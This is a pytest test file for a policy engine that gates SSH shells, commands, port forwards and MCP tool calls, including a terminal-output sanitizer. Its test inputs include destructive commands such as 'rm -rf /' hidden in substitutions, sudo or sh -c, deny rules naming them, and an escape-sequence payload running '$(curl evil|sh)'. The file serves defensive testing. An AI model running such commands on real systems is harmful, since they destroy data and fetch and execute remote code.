"""Policy: the decision table, precedence properties, command-line splitting, rule validation, display safety."""

from __future__ import annotations

import dataclasses
import json
import re
import shutil
import unicodedata
from pathlib import Path
from typing import Any

import asyncssh
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from bastion import config as config_mod
from bastion.cli.policy import policy, policy_test_report
from bastion.control.actions import (
    Action,
    Connect,
    Decision,
    Exec,
    Forward,
    McpTool,
    Shell,
    ShellLine,
    Subject,
    action_key,
)
from bastion.control.command_line import parse
from bastion.control.config import Rule, check_rules
from bastion.control.policy import OPAQUE_RULE, Policy
from bastion.display import sanitize_for_display

RULES = [
    Rule(name="ops-shell", effect="allow", groups=("ops",), hosts=("env=prod",), logins=("mcp",), shell=True),
    Rule(name="ops-read", effect="allow", groups=("ops",), exec=("ls", "ls *", "cat *", "git status", "re:grep( .*)?")),
    Rule(name="dev-any", effect="allow", users=("dana",), hosts=("dev-*",)),
    Rule(name="no-rm-rf", effect="deny", exec=("rm -rf *", r"re:rm\s+-[a-zA-Z]*r.*"), message="no recursive rm"),
    Rule(
        name="restart",
        effect="approve",
        groups=("ops",),
        exec=("systemctl restart *",),
        approvers=("leads",),
        approvals=2,
        grant="15m",
    ),
    Rule(name="root-login", effect="deny", logins=("root",), message="no root"),
    Rule(name="mcp-http", effect="allow", hosts=("env=prod",), forward=(8000, "9000-9010")),
    Rule(name="mcp-read", effect="allow", hosts=("env=prod",), mcp_tools=("read_*", "list_*")),
    Rule(
        name="mcp-write-etc",
        effect="approve",
        hosts=("env=prod",),
        mcp_tools=("write_file",),
        mcp_arguments={"path": "/etc/*"},
        approvers=("leads",),
    ),
    Rule(name="mcp-write", effect="allow", groups=("ops",), hosts=("env=prod",), mcp_tools=("write_file",)),
    Rule(name="contractors", effect="deny", groups=("contractors",), hosts=("env=prod",), message="not on prod"),
    Rule(name="ml-prod", effect="allow", users=("mia",), hosts=("env=prod,team=ml",), exec=("nvidia-smi",)),
]
PROD = {"env": "prod", "team": "web"}
ROOT = Path(__file__).parent.parent


def alice(login: str | None = "mcp", host: str = "prod1", labels: dict[str, str] | None = None) -> Subject:
    return Subject("alice", ("ops",), host, PROD if labels is None else labels, login)


BOB = Subject("bob", (), "prod1", PROD, "mcp")
CARL = Subject("carl", ("ops", "contractors"), "prod1", PROD, "mcp")
DANA = Subject("dana", (), "dev-1", {"env": "dev"}, "dana")
MIA_ML = Subject("mia", (), "gpu1", {"env": "prod", "team": "ml"}, "mcp")
MIA_WEB = Subject("mia", (), "prod1", PROD, "mcp")

TABLE: list[tuple[str, Subject, Action, str, str | None]] = [
    # Reaching hosts: any allow or approve rule for who+where; deny rules without "what" refuse.
    ("connect via an allow rule", alice(None), Connect(), "allow", "ops-shell"),
    ("connect via a forward-only rule", Subject("bob", (), "prod1", PROD, None), Connect(), "allow", "mcp-http"),
    ("connect to a host no rule names", Subject("bob", (), "dev-1", {"env": "dev"}, None), Connect(), "deny", None),
    ("connect by a denied group", CARL, Connect(), "deny", "contractors"),
    ("connect as root", alice("root"), Connect(), "deny", "root-login"),
    ("connect with a login an allow rule names", alice("mcp"), Connect(), "allow", "ops-shell"),
    ("a deny with exec patterns does not block reaching", DANA, Connect(), "allow", "dev-any"),
    # Shells.
    ("shell allowed", alice(), Shell(), "allow", "ops-shell"),
    ("shell with another login", alice("deploy"), Shell(), "deny", None),
    ("shell on a host without the label", alice(host="dev-1", labels={"env": "dev"}), Shell(), "deny", None),
    ("shell for a user with no rule", BOB, Shell(), "deny", None),
    ("shell as root", alice("root"), Shell(), "deny", "root-login"),
    # Exec.
    ("exec allowed by program name", alice(), Exec("ls"), "allow", "ops-read"),
    ("exec allowed by a glob", alice(), Exec("ls -la /srv"), "allow", "ops-read"),
    ("exec allowed by a regex", alice(), Exec("grep -r TODO ."), "allow", "ops-read"),
    ("a list where one command is not allowed", alice(), Exec("ls; whoami"), "deny", None),
    ("a list with a denied command", alice(), Exec("ls; rm -rf /"), "deny", "no-rm-rf"),
    ("a pipeline of allowed commands", alice(), Exec("cat /etc/hosts | grep local"), "allow", "ops-read"),
    ("a redirect is not a list operator", alice(), Exec("ls 2>&1 | cat -n"), "allow", "ops-read"),
    ("deny by regex", alice(), Exec("rm -r /tmp/x"), "deny", "no-rm-rf"),
    ("deny through sudo", alice(), Exec("sudo -u root rm -rf /"), "deny", "no-rm-rf"),
    ("deny inside $()", alice(), Exec('echo "$(rm -rf /)"'), "deny", "no-rm-rf"),
    ("deny inside backticks", alice(), Exec("ls `rm -rf /`"), "deny", "no-rm-rf"),
    ("deny inside sh -c", alice(), Exec("bash -lc 'ls; rm -rf /'"), "deny", "no-rm-rf"),
    ("deny after assignments, by basename", alice(), Exec("FOO=1 /usr/bin/rm -rf /var"), "deny", "no-rm-rf"),
    ("deny on a later line", alice(), Exec("ls\nrm -rf /"), "deny", "no-rm-rf"),
    ("deny in the background", alice(), Exec("rm -rf / & ls"), "deny", "no-rm-rf"),
    ("a substitution must be allowed too", alice(), Exec("ls $(whoami)"), "deny", None),
    ("approve", alice(), Exec("systemctl restart mcp"), "approve", "restart"),
    ("deny beats approve", alice(), Exec("systemctl restart mcp && rm -rf /"), "deny", "no-rm-rf"),
    ("unclosed quote does not crash: deny", alice(), Exec('rm -rf "/unclosed'), "deny", "no-rm-rf"),
    # a line that does not parse is opaque: deny rules apply to alice here, so it waits for people
    ("unclosed quote does not crash: opaque", alice(), Exec('cat "/etc/unclosed'), "approve", "(opaque)"),
    ("anything on dev hosts", DANA, Exec("make deploy"), "allow", "dev-any"),
    ("an allow without what covers shells", DANA, Shell(), "allow", "dev-any"),
    ("an allow without what covers shell lines", DANA, ShellLine("make"), "allow", "dev-any"),
    ("but not rm -rf", DANA, Exec("rm -rf /"), "deny", "no-rm-rf"),
    ("not ops: nothing", BOB, Exec("ls"), "deny", None),
    ("a deny without what covers exec", CARL, Exec("ls"), "deny", "contractors"),
    ("labels joined by a comma all match", MIA_ML, Exec("nvidia-smi"), "allow", "ml-prod"),
    ("one label of two is not enough", MIA_WEB, Exec("nvidia-smi"), "deny", None),
    # Shell lines.
    ("a plain shell allows its lines", alice(), ShellLine("whoami"), "allow", "ops-shell"),
    ("shell lines meet deny patterns", alice(), ShellLine("cd /; rm -rf *"), "deny", "no-rm-rf"),
    ("shell lines meet approve patterns", alice(), ShellLine("sudo systemctl restart x"), "approve", "restart"),
    ("an empty line needs no rule", BOB, ShellLine("   "), "allow", None),
    ("a shell line of a user with no shell", BOB, ShellLine("ls"), "deny", None),
    # Forwards.
    ("forward a listed port", alice(), Forward(8000), "allow", "mcp-http"),
    ("forward within a range", alice(), Forward(9005), "allow", "mcp-http"),
    ("forward another port", alice(), Forward(22), "deny", None),
    ("forward as a denied group", CARL, Forward(8000), "deny", "contractors"),
    ("an allow without what names no forward", DANA, Forward(8000), "deny", None),
    ("nor the target's own sshd", DANA, Forward(22), "deny", None),
    # MCP tools.
    ("read tools for anyone on prod", BOB, McpTool("read_file", {"path": "/x"}), "allow", "mcp-read"),
    ("writes to /etc wait", alice(), McpTool("write_file", {"path": "/etc/passwd"}), "approve", "mcp-write-etc"),
    ("other writes pass for ops", alice(), McpTool("write_file", {"path": "/tmp/x"}), "allow", "mcp-write"),
    ("missing argument: no approve", alice(), McpTool("write_file", {}), "allow", "mcp-write"),
    ("writes not for others", BOB, McpTool("write_file", {"path": "/tmp/x"}), "deny", None),
    ("unknown tool", BOB, McpTool("drop_table", {}), "deny", None),
    ("an allow without what names no MCP tool", DANA, McpTool("read_file", {}), "deny", None),
    ("a deny without what covers MCP tools", CARL, McpTool("read_file", {}), "deny", "contractors"),
]


@pytest.mark.parametrize(("case", "subject", "action", "effect", "rule"), TABLE, ids=[t[0] for t in TABLE])
def test_decision_table(case: str, subject: Subject, action: Action, effect: str, rule: str | None) -> None:
    decision = Policy(RULES).decide(subject, action)
    assert (decision.effect, decision.rule) == (effect, rule), decision
    if rule is not None and rule != OPAQUE_RULE:
        assert rule in decision.matched


def test_a_decision_names_every_matched_rule_and_the_approval_terms() -> None:
    decision = Policy(RULES).decide(alice(), Exec("systemctl restart mcp && rm -rf /"))
    assert decision.matched == ("no-rm-rf", "restart")
    assert decision.message == "no recursive rm"
    approve = Policy(RULES).decide(alice(), Exec("systemctl restart mcp"))
    assert (approve.approvers, approve.approvals, approve.grant, approve.message) == (
        ("leads",),
        2,
        900.0,
        "needs approval",
    )


def test_default_deny_says_which_command_no_rule_allows() -> None:
    decision = Policy(RULES).decide(alice(), Exec("ls; whoami"))
    assert decision.message == "no rule allows 'whoami' here"
    assert Policy([]).decide(alice(), Shell()).message == "no rule allows this"


def test_the_first_rule_in_file_order_of_the_winning_effect_decides() -> None:
    rules = [
        Rule(name="allow-all", effect="allow"),
        Rule(name="second-deny", effect="deny", exec=("rm *",), message="second"),
        Rule(name="third-deny", effect="deny", message="third"),
    ]
    decision = Policy(rules).decide(alice(), Exec("rm x"))
    assert (decision.rule, decision.message, decision.matched) == (
        "second-deny",
        "second",
        tuple(r.name for r in rules),
    )


# Rules without "what": an allow covers shells and commands only; forwards and MCP calls need a rule naming them.
def test_an_allow_rule_without_what_allows_shells_and_commands_but_not_forwards_or_mcp() -> None:
    policy = Policy([Rule(name="devs", effect="allow", groups=("ops",))])
    commands: tuple[Action, ...] = (Shell(), Exec("uname -a; exit 3"), Exec("sftp"), ShellLine("ls | wc -l"))
    for action in commands:
        assert policy.decide(alice(), action) == Decision("allow", "devs", "", ("devs",)), action
    for action in (Forward(2222), Forward(22), Forward(8000), McpTool("read_file", {"path": "/"})):
        decision = policy.decide(alice(), action)
        assert (decision.effect, decision.rule, decision.matched) == ("deny", None, ()), action
    assert policy.decide(alice(None), Connect()).effect == "allow"  # reaching the host is unchanged


def test_an_allow_rule_naming_a_port_allows_that_port_only() -> None:
    policy = Policy([
        Rule(name="devs", effect="allow", groups=("ops",)),
        Rule(name="mcp-http", effect="allow", groups=("ops",), forward=(8000,)),
    ])  # fmt: skip
    assert policy.decide(alice(), Forward(8000)) == Decision("allow", "mcp-http", "", ("mcp-http",))
    refused = policy.decide(alice(), Forward(2222))
    assert refused == Decision(
        "deny", None, "no rule allows forwards to port 2222 here; a rule must name it: forward = [2222]"
    )


def test_a_refused_mcp_call_says_which_key_names_it() -> None:
    decision = Policy([Rule(name="devs", effect="allow")]).decide(BOB, McpTool('drop\x1b"x', {}))
    tool = '"drop␛\\"x"'  # shown safely, quoted as TOML would have it
    assert decision.message == f"no rule allows the MCP tool {tool} here; a rule must name it: mcp_tools = [{tool}]"


@pytest.mark.parametrize("effect", ["deny", "approve"])
@pytest.mark.parametrize("action", [Forward(2222), McpTool("read_file", {}), Shell(), Exec("ls"), ShellLine("ls")])
def test_deny_and_approve_rules_without_what_still_cover_every_action(effect: str, action: Action) -> None:
    extra = {"approvers": ["leads"]} if effect == "approve" else {}
    rules = [
        Rule(name="everything", effect="allow", shell=True, exec=("*",), forward=("*",), mcp_tools=("*",)),
        Rule.model_validate({"name": "held-or-closed", "effect": effect, "groups": ["ops"], **extra}),
    ]
    decision = Policy(rules).decide(alice(), action)
    assert (decision.effect, decision.rule) == (effect, "held-or-closed")


def test_the_demo_configuration_lets_the_demo_user_work_but_forwards_nowhere(tmp_path: Path) -> None:
    shutil.copy(ROOT / "bastion.toml", tmp_path / "bastion.toml")
    (tmp_path / "state" / "demo").mkdir(parents=True)
    (tmp_path / "state" / "demo" / "known_hosts").write_text("")
    settings = config_mod.load(tmp_path / "bastion.toml")
    policy = Policy(settings.rules)
    for host in settings.hosts:
        for user, groups in (("demo", ("dev",)), ("alice", ("dev", "approvers"))):  # the demo's and the IdP's
            subject = Subject(user, groups, host.name, dict(host.labels), host.logins[0])
            assert policy.decide(dataclasses.replace(subject, login=None), Connect()).allowed
            for action in (Shell(), Exec("uname -a; exit 3"), Exec("sftp"), Exec("scp -t ."), ShellLine("ls -la")):
                assert policy.decide(subject, action).allowed, (host.name, action)
            assert policy.decide(subject, Exec("sudo id")).effect == "approve"
            # The bastion's own port, the targets' sshd, the demo IdP, an MCP port: none is named.
            for port in (2222, 22, 2201, 2202, 9400, 8000):
                assert policy.decide(subject, Forward(port)).effect == "deny", (host.name, port)


def test_users_and_groups_are_alternatives_and_groups_alone_restrict() -> None:
    rules = [Rule(name="both", effect="allow", users=("bob",), groups=("ops",), shell=True)]
    assert Policy(rules).decide(BOB, Shell()).effect == "allow"
    assert Policy(rules).decide(alice(), Shell()).effect == "allow"
    assert Policy(rules).decide(DANA, Shell()).effect == "deny"
    only_groups = Rule(name="ops", effect="allow", groups=("ops",))
    assert only_groups.users == ()
    assert Policy([only_groups]).decide(BOB, Shell()).effect == "deny"


def test_a_shell_rule_with_exec_patterns_holds_lines_to_them() -> None:
    rules = [Rule(name="restricted", effect="allow", shell=True, exec=("ls*", "cd *"))]
    assert Policy(rules).decide(BOB, Shell()).effect == "allow"
    assert Policy(rules).decide(BOB, ShellLine("cd /srv && ls")).effect == "allow"
    assert Policy(rules).decide(BOB, ShellLine("cd /srv && vi x")).effect == "deny"


def test_an_approve_rule_for_a_shell_does_not_hold_each_line() -> None:
    rules = [
        Rule(name="prod-shell", effect="approve", shell=True, approvers=("leads",)),
        Rule(name="lines", effect="allow", exec=("*",)),
    ]
    assert Policy(rules).decide(BOB, Shell()).effect == "approve"
    assert Policy(rules).decide(BOB, ShellLine("ls")).effect == "allow"


@pytest.mark.parametrize(
    ("arguments", "effect"),
    [
        ({"path": "/etc/x"}, "approve"),
        ({"path": "/etc/x", "mode": 420}, "approve"),
        ({"path": ["/etc/x"]}, "allow"),  # not a string: matched as JSON, '["/etc/x"]'
        ({"mode": 420}, "allow"),
    ],
)
def test_mcp_arguments_match_strings_as_text_and_other_values_as_json(arguments: dict[str, Any], effect: str) -> None:
    rules = [
        Rule(name="etc", effect="approve", mcp_arguments={"path": "/etc/*"}, approvers=("leads",)),
        Rule(name="json", effect="deny", mcp_arguments={"mode": "re:4[0-9]{2}", "path": '["/root*'}),
        Rule(name="tools", effect="allow", mcp_tools=("*",)),
    ]
    assert Policy(rules).decide(BOB, McpTool("write", arguments)).effect == effect


def test_action_keys_make_an_exec_and_a_shell_line_of_one_command_the_same() -> None:
    assert action_key(Exec(" ls -la ")) == action_key(ShellLine("ls -la"))
    assert action_key(McpTool("t", {"b": 1, "a": 2})) == action_key(McpTool("t", {"a": 2, "b": 1}))
    assert action_key(Forward(8000)) != action_key(Forward(8001))


# Rule validation: one line saying what is expected.
@pytest.mark.parametrize(
    ("raw", "message"),
    [
        ({"effect": "maybe"}, "Input should be 'allow', 'deny' or 'approve'"),
        ({"exec": ["re:("]}, "expected a valid regular expression after 're:'"),
        ({"exec": [""]}, "expected command patterns"),
        ({"forward": ["9100-9000"]}, "expected ports as numbers"),
        ({"forward": [0]}, "from 1 to 65535"),
        ({"forward": ["http"]}, "expected ports as numbers"),
        ({"forward": [True]}, "expected ports as numbers"),
        ({"effect": "approve", "approvals": 0}, "expected at least 1 approval"),
        ({"approvers": ["leads"]}, 'approvers only applies to effect = "approve"'),
        ({"grant": "15m"}, 'grant only applies to effect = "approve"'),
        ({"effect": "approve", "grant": "soon"}, "expected a duration"),
        ({"shell": False}, "expected true"),
        ({"users": []}, "expected at least one entry"),
        ({"name": "two words"}, "expected a rule name"),
        ({"command": "ls"}, "Extra inputs are not permitted"),
    ],
)
def test_rules_are_validated(raw: dict[str, Any], message: str) -> None:
    with pytest.raises(ValidationError) as info:
        Rule.model_validate({"name": "r", "effect": "deny", **raw})
    assert message in str(info.value)


def test_forward_entries_are_normalised() -> None:
    rule = Rule(name="f", effect="allow", forward=("8000", "9000-9010", "*", 22, "7-7"))
    assert rule.forward == (8000, "9000-9010", "*", 22, 7)


def test_check_rules_wants_unique_names_and_approvers_somewhere() -> None:
    approve = Rule(name="a", effect="approve")
    with pytest.raises(ValueError, match=r"rules\[0\] \(a\): an approve rule needs approvers"):
        check_rules([approve], ())
    check_rules([approve], ("leads",))
    with pytest.raises(ValueError, match="'a' is declared twice"):
        check_rules([approve, Rule(name="a", effect="allow")], ("leads",))
    with pytest.raises(ValueError, match="declared twice"):
        Policy([approve, approve])


# Properties.
NAMES = st.sampled_from(["*", "alice", "bob", "a*"])
GROUPS = st.sampled_from(["ops", "dev", "o*"])
HOSTS = st.sampled_from(["*", "prod1", "dev-*", "env=prod", "env=prod,team=web"])
COMMANDS = st.sampled_from(["ls", "ls -la", "rm -rf /", "ls; rm -rf /", "cat x | grep y", "sudo reboot", "echo 'a"])
PATTERNS = st.sampled_from(["ls", "ls *", "rm *", "re:.*reboot.*", "cat *", "*"])


@st.composite
def rules(draw: st.DrawFn, name: str) -> Rule:
    effect = draw(st.sampled_from(["allow", "deny", "approve"]))
    fields: dict[str, Any] = {"name": name, "effect": effect}
    if draw(st.booleans()):
        fields["users"] = tuple(draw(st.lists(NAMES, min_size=1, max_size=2)))
    if draw(st.booleans()):
        fields["groups"] = tuple(draw(st.lists(GROUPS, min_size=1, max_size=2)))
    if draw(st.booleans()):
        fields["hosts"] = tuple(draw(st.lists(HOSTS, min_size=1, max_size=2)))
    if draw(st.booleans()):
        fields["logins"] = (draw(st.sampled_from(["*", "mcp", "root"])),)
    what = draw(st.sampled_from(["none", "shell", "exec", "forward", "mcp", "mixed"]))
    if what in ("shell", "mixed"):
        fields["shell"] = True
    if what in ("exec", "mixed"):
        fields["exec"] = tuple(draw(st.lists(PATTERNS, min_size=1, max_size=3)))
    if what == "forward":
        fields["forward"] = (draw(st.sampled_from([8000, "8000-8100", "*"])),)
    if what == "mcp":
        fields["mcp_tools"] = (draw(st.sampled_from(["read_*", "*"])),)
    if effect == "approve":
        fields["approvers"] = ("leads",)
    return Rule(**fields)


rule_lists = st.integers(0, 6).flatmap(lambda n: st.tuples(*(rules(f"r{i}") for i in range(n))))
subjects = st.builds(
    Subject,
    user=st.sampled_from(["alice", "bob", "carol"]),
    groups=st.sampled_from([(), ("ops",), ("dev", "ops")]),
    host=st.sampled_from(["prod1", "dev-1"]),
    labels=st.sampled_from([{}, {"env": "prod", "team": "web"}]),
    login=st.sampled_from(["mcp", "root"]),
)
actions = st.one_of(
    st.just(Connect()),
    st.just(Shell()),
    COMMANDS.map(Exec),
    COMMANDS.map(ShellLine),
    st.sampled_from([22, 8000, 8050]).map(Forward),
    st.sampled_from(["read_file", "drop"]).map(lambda tool: McpTool(tool, {})),
)


def matching_deny(action: Action, name: str = "added-deny") -> Rule:
    """A deny rule built to match this action for anyone anywhere."""
    if isinstance(action, Exec | ShellLine):
        return Rule(name=name, effect="deny", exec=("re:" + re.escape(action.command.strip()),))
    if isinstance(action, Forward):
        return Rule(name=name, effect="deny", forward=(action.port,))
    if isinstance(action, McpTool):
        return Rule(name=name, effect="deny", mcp_tools=("re:" + re.escape(action.tool),))
    if isinstance(action, Shell):
        return Rule(name=name, effect="deny", shell=True)
    return Rule(name=name, effect="deny")


@settings(max_examples=300, deadline=None)
@given(rule_lists, subjects, actions, st.data())
def test_adding_a_matching_deny_rule_always_denies(
    rules: tuple[Rule, ...], subject: Subject, action: Action, data: st.DataObject
) -> None:
    position = data.draw(st.integers(0, len(rules)))
    with_deny = [*rules[:position], matching_deny(action), *rules[position:]]
    decision = Policy(with_deny).decide(subject, action)
    assert decision.effect == "deny"
    assert (
        decision.rule is not None
        and Policy(with_deny).rules[[r.name for r in with_deny].index(decision.rule)].effect == "deny"
    )


@settings(max_examples=200, deadline=None)
@given(subjects, actions)
def test_no_rules_deny_everything(subject: Subject, action: Action) -> None:
    decision = Policy([]).decide(subject, action)
    assert (decision.effect, decision.rule, decision.matched) == ("deny", None, ())


@settings(max_examples=300, deadline=None)
@given(rule_lists, subjects, actions, st.randoms(use_true_random=False))
def test_the_order_of_rules_does_not_change_the_effect(
    rules: tuple[Rule, ...], subject: Subject, action: Action, rng: Any
) -> None:
    shuffled = list(rules)
    rng.shuffle(shuffled)
    first, second = Policy(rules).decide(subject, action), Policy(shuffled).decide(subject, action)
    assert first.effect == second.effect
    assert set(first.matched) == set(second.matched)


@settings(max_examples=300, deadline=None)
@given(rule_lists, subjects, actions)
def test_the_effect_is_the_strongest_of_the_matched_rules(
    rules: tuple[Rule, ...], subject: Subject, action: Action
) -> None:
    decision = Policy(rules).decide(subject, action)
    effects = {r.name: r.effect for r in rules}
    matched = {effects[name] for name in decision.matched}
    if decision.rule == OPAQUE_RULE:  # an allowed line it cannot read, where deny or approve rules apply
        assert decision.opaque and decision.effect in ("approve", "deny") and "deny" in matched | {"deny"}
        assert matched & {"deny", "approve"} or decision.effect == "deny"
        return
    if decision.rule is not None:
        assert effects[decision.rule] == decision.effect or isinstance(action, Connect)
    if not isinstance(action, Connect):
        assert decision.effect == (
            "deny" if "deny" in matched or not matched else "approve" if "approve" in matched else "allow"
        )


@settings(max_examples=300, deadline=None)
@given(rule_lists, subjects, actions)
def test_adding_an_allow_rule_never_lifts_a_deny_by_rule(
    rules: tuple[Rule, ...], subject: Subject, action: Action
) -> None:
    before = Policy(rules).decide(subject, action)
    after = Policy([*rules, Rule(name="allow-all", effect="allow")]).decide(subject, action)
    if before.effect == "deny" and before.rule is not None:
        assert after.effect == "deny"
    if before.effect == "approve":
        assert after.effect == "approve"


@settings(max_examples=300, deadline=None)
@given(rule_lists, subjects, st.sampled_from([Forward(22), Forward(8000), McpTool("read_file", {})]))
def test_a_forward_or_mcp_call_is_allowed_only_by_rules_naming_it(
    rules: tuple[Rule, ...], subject: Subject, action: Action
) -> None:
    decision = Policy(rules).decide(subject, action)
    if decision.allowed:
        by_name = {r.name: r for r in rules}
        assert decision.matched and all(by_name[name].has_what for name in decision.matched)
        keys = ("forward",) if isinstance(action, Forward) else ("mcp_tools", "mcp_arguments")
        assert all(any(getattr(by_name[name], key) for key in keys) for name in decision.matched)
    without_what = [r for r in rules if r.has_what or r.effect != "allow"]
    assert Policy(without_what).decide(subject, action).effect == decision.effect


# Command-line splitting.
@pytest.mark.parametrize(
    ("line", "commands", "wrapped"),
    [
        ("ls", [("ls",)], []),
        ("ls -la /srv", [("ls", "-la", "/srv")], []),
        ("ls; rm -rf /", [("ls",), ("rm", "-rf", "/")], []),
        ("a && b || c | d & e\nf", [("a",), ("b",), ("c",), ("d",), ("e",), ("f",)], []),
        ("FOO=1 BAR='x y' /bin/rm x", [("/bin/rm", "x")], []),
        ("echo 'a; b' \"c && d\"", [("echo", "a; b", "c && d")], []),
        ("echo a\\;b", [("echo", "a;b")], []),
        ('echo "$(id -u)"', [("echo", "$(id -u)"), ("id", "-u")], []),
        ("echo $(a $(b))", [("echo", "$(a", "$(b))"), ("a", "$(b)"), ("b",)], []),
        ("echo `whoami`", [("echo", "`whoami`"), ("whoami",)], []),
        ("diff <(ls a) <(ls b)", [("diff", "<(ls", "a)", "<(ls", "b)"), ("ls", "a"), ("ls", "b")], []),
        ("echo $((1 + 2))", [("echo", "$((1", "+", "2))")], []),
        ("ls 2>&1 >/dev/null | tee x", [("ls", "2>&1", ">/dev/null"), ("tee", "x")], []),
        ("ls &>/dev/null", [("ls", "&>/dev/null")], []),
        ("> out cmd", [("cmd",)], []),
        ("ls # ; rm -rf /", [("ls",)], []),
        ("(cd /tmp; make)", [("cd", "/tmp"), ("make",)], []),
        ("if true; then rm x; fi", [("true",), ("rm", "x")], []),
        ("for f in *; do rm $f; done", [("rm", "$f")], []),
        ("while sleep 1; do date; done", [("sleep", "1"), ("date",)], []),
        ("sudo -u root rm -rf /", [("sudo", "-u", "root", "rm", "-rf", "/")], [("rm", "-rf", "/")]),
        ("env -i A=1 rm x", [("env", "-i", "A=1", "rm", "x")], [("rm", "x")]),
        (
            "timeout 5 nice -n 3 rm x",
            [("timeout", "5", "nice", "-n", "3", "rm", "x")],
            [("nice", "-n", "3", "rm", "x"), ("rm", "x")],
        ),
        ("sh -c 'a; b'", [("sh", "-c", "a; b")], [("a",), ("b",)]),
        ("eval 'rm x'", [("eval", "rm x")], [("rm", "x")]),
        ("find / -name x -exec rm {} \\;", [("find", "/", "-name", "x", "-exec", "rm", "{}", ";")], [("rm", "{}")]),
        ("xargs -n 1 rm", [("xargs", "-n", "1", "rm")], [("rm",)]),
        ("", [], []),
        ("   ", [], []),
    ],
)
def test_command_lines_split_into_simple_commands(
    line: str, commands: list[tuple[str, ...]], wrapped: list[tuple[str, ...]]
) -> None:
    parsed = parse(line)
    assert parsed.exact
    assert [c.words for c in parsed.commands] == commands
    assert [c.words for c in parsed.wrapped] == wrapped


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ("echo 'unclosed", [("echo", "unclosed")]),
        ('rm -rf "/x', [("rm", "-rf", "/x")]),
        ("echo $(unclosed", [("echo",), ("unclosed",)]),
        ("ls \\", [("ls",)]),
        ("ls; `rm x", [("ls",), ("rm", "x")]),
    ],
)
def test_unparseable_quoting_falls_back_to_whitespace_splitting(line: str, words: list[tuple[str, ...]]) -> None:
    parsed = parse(line)
    assert not parsed.exact
    assert [c.words for c in parsed.commands] == words


def test_candidates_include_the_basename_and_the_assignments() -> None:
    (command,) = parse("LD_PRELOAD=x /usr/bin/rm -rf /").commands
    assert command.candidates() == (
        "/usr/bin/rm -rf /",
        "/usr/bin/rm",
        "rm -rf /",
        "rm",
        "LD_PRELOAD=x /usr/bin/rm -rf /",
    )


@settings(max_examples=500, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("ab $()`'\"\\;&|<>#\n{}=*")), max_size=40))
def test_parse_never_raises(line: str) -> None:
    parse(line)
    Policy(RULES).decide(alice(), ShellLine(line))


def test_deeply_nested_substitutions_do_not_recurse_forever() -> None:
    line = "echo " + "$(" * 200 + "x" + ")" * 200
    parse(line)


# Display safety.
@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("ls\x1b[2J\x1b[Hrm", "ls␛[2J␛[Hrm"),
        ("ls \x1b]0;$(curl evil|sh)\x07 /tmp", "ls ␛]0;$(curl evil|sh)\\x07 /tmp"),  # nothing hidden is dropped
        ("ls \x9d$(reboot)", "ls \\x9d$(reboot)"),
        ("\x9b31mred", "\\x9b31mred"),
        ("bell\x07back\x08space\x7f", "bell\\x07back\\x08space\\x7f"),
        ("\u202eevil\u202c", "\\u202eevil\\u202c"),
        ("a\tb", "a b"),
        ("one\ntwo\r\nthree\rfour", "one⏎two⏎three⏎four"),
        ("héllo 日本 ✓", "héllo 日本 ✓"),
    ],
)
def test_sanitize_for_display(raw: str, shown: str) -> None:
    assert sanitize_for_display(raw) == shown


def test_sanitize_can_keep_newlines() -> None:
    assert sanitize_for_display("a\nb\x1b[1m", keep_newlines=True) == "a\nb␛[1m"


@settings(max_examples=500)
@given(st.text())
def test_sanitized_text_has_no_control_characters(text: str) -> None:
    shown = sanitize_for_display(text)
    assert not any(unicodedata.category(c) in ("Cc", "Cf") for c in shown)


# `bastion policy test`.
@pytest.fixture
def config(tmp_path: Path) -> Path:
    key = asyncssh.generate_private_key("ssh-ed25519").export_public_key().decode().strip()
    path = tmp_path / "bastion.toml"
    path.write_text(
        f"""
[server]
state_dir = "state"

[[hosts]]
name = "prod1"
address = "10.0.0.5:22"
logins = ["mcp"]
host_key = "{key}"
labels = {{ env = "prod" }}

[[rules]]
name = "ops-shell"
effect = "allow"
groups = ["ops"]
hosts = ["env=prod"]
shell = true

[[rules]]
name = "no-rm-rf"
effect = "deny"
exec = ["rm -rf *"]
message = "no recursive rm"

[[rules]]
name = "restart"
effect = "approve"
exec = ["systemctl restart *"]
approvers = ["leads"]
grant = "15m"
"""
    )
    return path


def run_policy(config: Path, *args: str) -> Any:
    return CliRunner().invoke(policy, ["test", "-c", str(config), *args])


def test_policy_test_prints_the_decision_and_the_matched_rules(config: Path) -> None:
    result = run_policy(
        config, "--user", "alice", "--group", "ops", "--host", "prod1", "--login", "mcp", "--exec", "rm -rf /"
    )
    assert result.exit_code == 0, result.output
    assert result.output == "deny by rule no-rm-rf: no recursive rm\nmatched: no-rm-rf\n"
    result = run_policy(config, "--user", "bob", "--host", "prod1", "--login", "mcp", "--exec", "systemctl restart x")
    assert result.output.startswith("approve by rule restart: needs approval (1 approval(s) from leads; grant 900s)")
    result = run_policy(config, "--user", "alice", "--group", "ops", "--host", "prod1", "--login", "mcp", "--shell")
    assert result.output == "allow by rule ops-shell\nmatched: ops-shell\n"
    result = run_policy(config, "--user", "bob", "--host", "prod1", "--login", "mcp", "--forward", "8000")
    assert result.output == (
        "deny by default (no rule matched): no rule allows forwards to port 8000 here; a rule must name it: "
        "forward = [8000]\nmatched: none\n"
    )


def test_policy_test_explains_a_forward_no_rule_names(config: Path) -> None:
    config.write_text(config.read_text() + '\n[[rules]]\nname = "ops-all"\neffect = "allow"\ngroups = ["ops"]\n')
    ops = ("--user", "alice", "--group", "ops", "--host", "prod1", "--login", "mcp")
    assert run_policy(config, *ops, "--exec", "uname -a").output == "allow by rule ops-all\nmatched: ops-all\n"
    result = run_policy(config, *ops, "--forward", "2222")
    assert result.exit_code == 0, result.output
    assert result.output == (
        "deny by default (no rule matched): no rule allows forwards to port 2222 here; a rule must name it: "
        "forward = [2222]\nmatched: none\n"
        'note: rule ops-all has no "what" keys: an allow without them covers shells and commands, never forwards\n'
    )
    report = json.loads(run_policy(config, *ops, "--mcp-tool", "read_file", "--json").output)
    assert (report["effect"], report["rule"], report["unnamed_allows"]) == ("deny", None, ["ops-all"])
    config.write_text(config.read_text() + '\n[[rules]]\nname = "mcp-http"\neffect = "allow"\nforward = [2222]\n')
    assert run_policy(config, *ops, "--forward", "2222").output == "allow by rule mcp-http\nmatched: mcp-http\n"
    refused = run_policy(config, *ops, "--forward", "2223").output
    assert "a rule must name it: forward = [2223]" in refused and "note: rule ops-all has" in refused


def test_policy_test_json(config: Path) -> None:
